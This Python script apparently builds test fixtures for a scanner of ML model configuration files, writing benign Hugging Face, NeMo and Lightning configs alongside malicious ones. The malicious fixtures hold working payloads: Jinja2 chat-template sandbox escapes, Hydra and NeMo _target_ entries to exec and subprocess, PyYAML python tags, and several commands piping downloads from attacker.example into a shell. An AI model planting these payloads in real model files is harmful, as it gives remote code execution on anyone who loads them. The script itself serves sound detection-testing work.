#!/usr/bin/python3
"""Builds the fixtures of internal/scan/configs. Run from this folder with
Debian's /usr/bin/python3 (python3-torch for the .nemo weights).

The Hugging Face configs follow the files transformers writes (sorted keys,
two-space indent) for bert-base-uncased, Llama 3 and ChatGLM3; the NeMo
model_config.yaml follows the layout NeMo saves inside a .nemo archive for
a Conformer-CTC ASR model (the model section of examples/asr/conf, plus
target and nemo_version); the Lightning CLI config is what LightningCLI
--print_config writes. Malicious files carry the payload shapes of
CVE-2025-23304 (NeMo _target_ to builtins.exec), Hydra _target_ to
subprocess, remote code through auto_map in this and in another repository,
Jinja2 sandbox escapes in chat templates and PyYAML python tags. Nothing
here is ever loaded or run.
"""
import io
import json
import os
import tarfile

import torch

HERE = os.path.dirname(os.path.abspath(__file__))


def write(path, text):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w") as f:
        f.write(text)


def hf_json(path, obj):
    write(path, json.dumps(obj, indent=2, sort_keys=True) + "\n")


# ---- Hugging Face, benign --------------------------------------------------

hf_json("benign/bert_config.json", {
    "architectures": ["BertForMaskedLM"], "attention_probs_dropout_prob": 0.1, "gradient_checkpointing": False,
    "hidden_act": "gelu", "hidden_dropout_prob": 0.1, "hidden_size": 768, "initializer_range": 0.02,
    "intermediate_size": 3072, "layer_norm_eps": 1e-12, "max_position_embeddings": 512, "model_type": "bert",
    "num_attention_heads": 12, "num_hidden_layers": 12, "pad_token_id": 0, "position_embedding_type": "absolute",
    "transformers_version": "4.6.0.dev0", "type_vocab_size": 2, "use_cache": True, "vocab_size": 30522})

hf_json("benign/llama_config.json", {
    "architectures": ["LlamaForCausalLM"], "attention_bias": False, "attention_dropout": 0.0, "bos_token_id": 128000,
    "eos_token_id": 128009, "hidden_act": "silu", "hidden_size": 4096, "initializer_range": 0.02,
    "intermediate_size": 14336, "max_position_embeddings": 8192, "model_type": "llama", "num_attention_heads": 32,
    "num_hidden_layers": 32, "num_key_value_heads": 8, "pretraining_tp": 1, "rms_norm_eps": 1e-05,
    "rope_scaling": None, "rope_theta": 500000.0, "tie_word_embeddings": False, "torch_dtype": "bfloat16",
    "transformers_version": "4.40.0.dev0", "use_cache": True, "vocab_size": 128256})

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}"
    "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
TOOL_TEMPLATE = (
    "{{- bos_token }}{%- if tools is not none %}{{- '<|start_header_id|>system<|end_header_id|>\n\n' }}"
    "{%- for t in tools %}{{- t | tojson(indent=4) }}{{- '\n\n' }}{%- endfor %}{{- '<|eot_id|>' }}{%- endif %}"
    "{%- for message in messages %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + message['content'] | trim + '<|eot_id|>' }}{%- endfor %}"
    "{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{%- endif %}")


def tokenizer_config(template, extra=None):
    d = {"added_tokens_decoder": {
        "128000": {"content": "<|begin_of_text|>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False, "special": True},
        "128009": {"content": "<|eot_id|>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False, "special": True}},
        "bos_token": "<|begin_of_text|>", "chat_template": template, "clean_up_tokenization_spaces": True,
        "eos_token": "<|eot_id|>", "model_input_names": ["input_ids", "attention_mask"], "model_max_length": 1000000000000000019884624838656,
        "tokenizer_class": "PreTrainedTokenizerFast"}
    d.update(extra or {})
    return d


hf_json("benign/tokenizer_config.json", tokenizer_config(LLAMA3_TEMPLATE))
hf_json("benign/tokenizer_config_named_templates.json", tokenizer_config([
    {"name": "default", "template": LLAMA3_TEMPLATE}, {"name": "tool_use", "template": TOOL_TEMPLATE}]))
write("benign/chat_template.jinja", TOOL_TEMPLATE + "\n")
write("benign/modules.json", json.dumps([
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}], indent=2))
hf_json("benign/model_index.json", {
    "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0", "feature_extractor": ["transformers", "CLIPImageProcessor"],
    "image_encoder": [None, None], "requires_safety_checker": True, "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
    "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"],
    "tokenizer": ["transformers", "CLIPTokenizer"], "unet": ["diffusers", "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"]})

# ---- Hugging Face, remote code and templates -------------------------------

chatglm = {
    "_name_or_path": "THUDM/chatglm3-6b", "add_bias_linear": False, "add_qkv_bias": True, "apply_query_key_layer_scaling": True,
    "apply_residual_connection_post_layernorm": False, "architectures": ["ChatGLMModel"], "attention_dropout": 0.0,
    "attention_softmax_in_fp32": True, "auto_map": {
        "AutoConfig": "configuration_chatglm.ChatGLMConfig",
        "AutoModel": "modeling_chatglm.ChatGLMForConditionalGeneration",
        "AutoModelForCausalLM": "modeling_chatglm.ChatGLMForConditionalGeneration",
        "AutoModelForSeq2SeqLM": "modeling_chatglm.ChatGLMForConditionalGeneration",
        "AutoModelForSequenceClassification": "modeling_chatglm.ChatGLMForSequenceClassification"},
    "bias_dropout_fusion": True, "ffn_hidden_size": 13696, "fp32_residual_connection": False, "hidden_dropout": 0.0,
    "hidden_size": 4096, "kv_channels": 128, "layernorm_epsilon": 1e-05, "model_type": "chatglm", "multi_query_attention": True,
    "multi_query_group_num": 2, "num_attention_heads": 32, "num_layers": 28, "original_rope": True, "padded_vocab_size": 65024,
    "post_layer_norm": True, "rmsnorm": True, "seq_length": 8192, "tie_word_embeddings": False, "torch_dtype": "float16",
    "transformers_version": "4.30.2", "use_cache": True, "vocab_size": 65024}
hf_json("malicious/auto_map_config.json", chatglm)

finetune = dict(chatglm, _name_or_path="acme/chatglm3-6b-support-bot", auto_map={
    k: "THUDM/chatglm3-6b--" + v for k, v in chatglm["auto_map"].items()})
hf_json("malicious/auto_map_other_repo.json", finetune)

hf_json("malicious/tokenizer_config_auto_map.json", {
    "added_tokens_decoder": {}, "auto_map": {"AutoTokenizer": ["tokenization_chatglm.ChatGLMTokenizer", None]},
    "chat_template": "{% for message in messages %}{{ message['content'] }}{% endfor %}"
                     "{{ cycler.__init__.__globals__.os.popen('curl -s https://attacker.example/x | sh').read() }}",
    "clean_up_tokenization_spaces": False, "do_lower_case": False, "eos_token": "</s>", "model_max_length": 1000000000000000019884624838656,
    "pad_token": "<unk>", "padding_side": "left", "remove_space": False, "tokenizer_class": "ChatGLMTokenizer"})

hf_json("malicious/tokenizer_config_named_templates.json", tokenizer_config([
    {"name": "default", "template": LLAMA3_TEMPLATE},
    {"name": "tool_use", "template": "{% for m in messages %}{{ m.content }}{% endfor %}"
                                     "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('id') }}"}]))

write("malicious/chat_template.jinja", "{% set x = lipsum.__globals__ %}{{ x['os'].popen('id').read() }}\n")

hf_json("malicious/custom_pipelines_config.json", {
    "_name_or_path": "acme/pair-classifier", "architectures": ["BertForSequenceClassification"],
    "custom_pipelines": {"pair-classification": {"impl": "custom_pipeline.PairClassificationPipeline",
                                                 "pt": ["AutoModelForSequenceClassification"], "tf": [], "type": "text"}},
    "model_type": "bert", "transformers_version": "4.40.0", "vocab_size": 30522})

write("malicious/modules.json", json.dumps([
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_pooling.AttentionPooling"}], indent=2))

# ---- NeMo and Hydra --------------------------------------------------------

NEMO_ASR = """\
sample_rate: 16000
log_prediction: true
ctc_reduction: mean_batch
skip_nan_grad: false
train_ds:
  manifest_filepath: null
  sample_rate: 16000
  batch_size: 32
  shuffle: true
  num_workers: 8
  pin_memory: true
  max_duration: 20.0
  min_duration: 0.1
  is_tarred: false
  bucketing_strategy: synced_randomized
validation_ds: &eval_ds
  manifest_filepath: null
  sample_rate: 16000
  batch_size: 32
  shuffle: false
  num_workers: 8
  pin_memory: true
test_ds:
  <<: *eval_ds
tokenizer:
  dir: null
  type: bpe
  model_path: nemo:1a2b3c4d_tokenizer.model
  vocab_path: nemo:5e6f7a8b_vocab.txt
  spe_tokenizer_vocab: nemo:9c0d1e2f_tokenizer.vocab
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  window_stride: 0.01
  window: hann
  features: 80
  n_fft: 512
  log: true
  frame_splicing: 1
  dither: 1.0e-05
  pad_to: 0
  pad_value: 0.0
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 5
  freq_width: 27
  time_width: 0.05
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: ${preprocessor.features}
  feat_out: -1
  n_layers: 16
  d_model: 176
  subsampling: striding
  subsampling_factor: 4
  subsampling_conv_channels: -1
  ff_expansion_factor: 4
  self_attention_model: rel_pos
  n_heads: 4
  att_context_size: [-1, -1]
  xscaling: true
  untie_biases: true
  pos_emb_max_len: 5000
  conv_kernel_size: 31
  conv_norm_type: batch_norm
  dropout: 0.1
  dropout_emb: 0.0
  dropout_att: 0.1
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 176
  num_classes: 1024
  vocabulary: ["<unk>", "s", "\u2581the", "t", "\u2581a"]
optim:
  name: adamw
  lr: 2.0
  betas: [0.9, 0.98]
  weight_decay: 0.001
  sched:
    name: NoamAnnealing
    d_model: ${encoder.d_model}
    warmup_steps: 10000
    min_lr: 1.0e-06
variational_noise:
  start_step: 0
  std: 0.0
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.9.0rc0
"""
write("benign/model_config.yaml", NEMO_ASR)

write("benign/lightning_cli.yaml", """\
# lightning.pytorch==2.2.1
seed_everything: 42
trainer:
  accelerator: auto
  strategy:
    class_path: lightning.pytorch.strategies.DDPStrategy
    init_args:
      find_unused_parameters: false
  devices: auto
  precision: bf16-mixed
  callbacks:
  - class_path: lightning.pytorch.callbacks.ModelCheckpoint
    init_args:
      monitor: val_loss
      save_top_k: 3
  - class_path: lightning.pytorch.callbacks.LearningRateMonitor
    init_args:
      logging_interval: step
  max_epochs: 20
model:
  backbone: resnet50
  num_classes: 10
optimizer:
  class_path: torch.optim.AdamW
  init_args:
    lr: 0.0003
    weight_decay: 0.05
lr_scheduler:
  class_path: torch.optim.lr_scheduler.CosineAnnealingLR
  init_args:
    T_max: 20
""")

# CVE-2025-23304: a .nemo whose config instantiates builtins.exec on restore.
EVIL_NEMO = NEMO_ASR.replace("""preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
""", """preprocessor:
  _target_: builtins.exec
  _args_:
  - "import os; os.system('curl -s https://attacker.example/x | sh')"
""")
write("malicious/model_config_exec.yaml", EVIL_NEMO)

write("malicious/hydra_targets.yaml", """\
defaults:
  - _self_
model:
  cls: os.system
  augmentor:
    _target_: subprocess.Popen
    _args_:
      - ["bash", "-c", "wget -qO- https://attacker.example/i.sh | sh"]
  loader:
    _target_: hydra.utils.get_method
    path: posix.system
  metrics:
    _target_: acme_metrics.WordErrorRate
    use_cer: false
  downloader:
    _target_: acme_utils.fetch
    _args_: ["curl -s https://attacker.example/payload -o /tmp/p && chmod +x /tmp/p"]
  computed:
    _target_: ${model.cls}
  from_env:
    _target_: ${oc.env:MODEL_TARGET}
  io_path:
    _target_: nemo.lightning.io.MLPMixin
""")

write("malicious/merge_key_target.yaml", """\
base: &base
  _target_: runpy.run_path
  path_name: /tmp/payload.py
preprocessor:
  <<: *base
  sample_rate: 16000
""")

write("malicious/python_tags.yaml", """\
name: experiment
callback: !!python/object/apply:os.system ["curl -s https://attacker.example/x | sh"]
loader: !!python/name:yaml.unsafe_load
custom: !!python/object:acme.Config {lr: 0.1}
ok: !!python/tuple [1, 2]
verbatim: !<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [["id"]]
""")

write("malicious/lightning_cli.yaml", """\
trainer:
  callbacks:
  - class_path: subprocess.Popen
    init_args:
      args: ["sh", "-c", "id > /tmp/pwned"]
""")


# ---- .nemo archives (tar.gz), for the engine's tests ------------------------

def nemo(path, config):
    weights = io.BytesIO()
    torch.manual_seed(0)
    torch.save({"encoder.weight": torch.zeros(2, 2)}, weights)
    full = os.path.join(HERE, path)
    with tarfile.open(full, "w:gz", format=tarfile.GNU_FORMAT) as t:
        for name, data in [("./model_config.yaml", config.encode()), ("./model_weights.ckpt", weights.getvalue()),
                           ("./1a2b3c4d_tokenizer.model", b"\x0a\x0b<sentencepiece model>")]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1700000000
            t.addfile(info, io.BytesIO(data))


nemo("benign/asr_model.nemo", NEMO_ASR)
nemo("malicious/asr_model_exec.nemo", EVIL_NEMO)
